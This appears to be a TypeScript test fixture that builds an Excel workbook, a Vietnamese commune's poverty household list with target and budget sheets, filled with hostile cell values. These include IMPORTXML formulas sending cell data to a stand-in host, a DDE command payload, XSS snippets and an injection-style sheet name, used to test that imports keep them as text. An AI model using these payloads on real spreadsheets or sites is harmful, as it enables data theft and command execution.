/** A ward in whose every text column stands what a sheet, a page or a shell would run if it were not kept as text. */
import ExcelJS from 'exceljs';

/** Each would do something in one place: a formula, a command, a page, a template, a pattern of replacement. */
export const HOSTILE = [
  '=IMPORTXML("http://a.example/?"&A1;"//b")',
  '+84905123987',
  '-2+3',
  '@SUM(A1)',
  '=HYPERLINK("http://a.example";"Bấm")',
  "=cmd|' /C calc'!A0",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  "'=1+1",
  '{count} $& $1 %s <?= x ?>',
  '\t=IMPORTDATA("http://a.example")',
  '"; drop',
] as const;

const at = (index: number): string => HOSTILE[index % HOSTILE.length] ?? '';
/** Sheets are named so by whoever wants to get out of the quotes of a reference; Sheets takes the name. */
export const HOSTILE_SHEET = `='x'&"<b>"`;

/**
 * Bytes of the workbook: a list with members' columns, notes, a target sheet, a printed summary.
 *
 * @param more names of further sheets with a list like it, each of other households
 */
export async function hostileWard(more: readonly string[] = []): Promise<Uint8Array> {
  const book = new ExcelJS.Workbook();
  [HOSTILE_SHEET, ...more].forEach((name, index) => addList(book.addWorksheet(name), index));
  addPlan(book);
  return new Uint8Array(await book.xlsx.writeBuffer());
}

/** @param which of the lists: its households have codes of their own */
function addList(list: ExcelJS.Worksheet, which: number): void {
  list.addRow(['ỦY BAN NHÂN DÂN XÃ =IMPORTXML("http://a.example";"//b")']);
  list.addRow(['DANH SÁCH HỘ DÂN CƯ NĂM 2024']);
  list.addRow([
    ...['Mã hộ', 'Họ và tên chủ hộ', 'Ngày sinh', 'Giới tính', 'Số CCCD', 'Điện thoại', 'Địa chỉ', 'Dân tộc'],
    ...['Thôn', 'Số nhân khẩu', 'Phân loại hộ', 'Điểm B1', 'Điểm B2', 'Nguyên nhân nghèo', 'Ghi chú'],
  ]);
  for (let index = 0; index < HOSTILE.length * 2; index++) {
    const isPoor = index % 3;
    list.addRow([
      index % 5 === 4 ? at(index) : `H${which === 0 ? '' : `${which}-`}${index}`,
      // Twice a name with a space too many, which is a safe fix.
      index < 2 ? `${at(index)}  Văn  An` : at(index),
      index % 4 === 3 ? at(index + 1) : `0${1 + (index % 9)}/02/19${60 + index}`,
      index % 7 === 6 ? at(index) : 'Nam',
      index % 3 === 2 ? at(index + 3) : `0510${60 + index}10${1000 * (which + 1) + index}`,
      at(index + 4),
      at(index + 5),
      index % 2 === 0 ? 'Kinh' : at(index + 6),
      at(index % 4),
      index % 6 === 5 ? at(index) : 3,
      ['Hộ nghèo', 'Hộ cận nghèo', 'Hộ không nghèo'][isPoor],
      ...[100 + 20 * isPoor, 40 - 20 * isPoor],
      at(index + 7),
      at(index + 8),
    ]);
  }
  list.getCell('B4').note = at(0);
}

function addPlan(book: ExcelJS.Workbook): void {
  // exceljs writes '=…' as text; its own formulas are objects.
  const plan = book.addWorksheet('Chỉ tiêu');
  plan.addRow(['CHỈ TIÊU GIẢM NGHÈO NĂM 2024']);
  plan.addRow([
    ...['TT', 'Nội dung chỉ tiêu', 'Đơn vị tính', 'Số đầu năm', 'Chỉ tiêu năm 2024', 'Kết quả thực hiện'],
    ...['Tổng số (mẫu số)', 'Cơ quan chủ trì', 'Cán bộ phụ trách', 'Nguồn vốn', 'Ghi chú'],
  ]);
  HOSTILE.forEach((text, index) => {
    const number = index % 3 === 0 ? [3, 1, 2, 10] : [null, 100, 50 + index, 100];
    plan.addRow([
      `${index}`,
      `${text} hộ nghèo giảm`,
      text,
      ...number,
      text,
      at(index + 1),
      at(index + 2),
      text,
    ]);
  });
  const budget = book.addWorksheet('<b>Kinh phí');
  budget.addRow(['Nguồn vốn', 'Kế hoạch giao', 'Đã giải ngân']);
  HOSTILE.forEach((text, index) => budget.addRow([text, 100 + index, 40]));
}

/** Text of a plan with what a page would run. */
export const HOSTILE_PLAN = HOSTILE.map(
  (text, index) => `${index + 1}. Giảm ${index + 3} hộ nghèo ${text}; giao ${at(index + 1)} chủ trì.`,
).join('\n');
